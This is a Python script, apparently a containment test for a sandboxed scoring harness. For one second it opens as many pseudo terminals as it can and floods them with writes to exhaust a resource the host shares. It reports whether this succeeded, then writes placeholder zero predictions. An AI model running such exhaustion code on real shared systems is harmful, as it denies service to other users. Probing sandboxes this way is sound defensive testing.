# TRIES: pseudo terminals: the host has one number of them for all, and its own threads carry what is written into them.
# MUST REPORT: OK, scored normally.
# NEVER: a terminal; CPU time of the kernel's threads and buffers that are not the run's.
import csv
import os
import time

keep, written = [], 0
try:
    until = time.monotonic() + 1
    while time.monotonic() < until:
        keep.append(os.openpty())
        for end in keep[-1]:
            os.set_blocking(end, False)
            try:
                written += os.write(end, bytes(1 << 16))
            except BlockingIOError:
                continue
except OSError as error:
    print("ATTACK-RESULT: blocked", error, flush=True)
if keep:
    print("ATTACK-RESULT: SUCCEEDED", len(keep), "terminals", written, "bytes", flush=True)
ids = [row["id"] for row in csv.DictReader(open(os.path.join(os.environ["INPUT_DIR"], "test.csv")))]
for ends in keep:
    for end in ends:
        os.close(end)
with open(os.path.join(os.environ["OUTPUT_DIR"], "predictions.csv"), "w") as file:
    file.write("id,prediction\n" + "".join(f"{name},0\n" for name in ids))
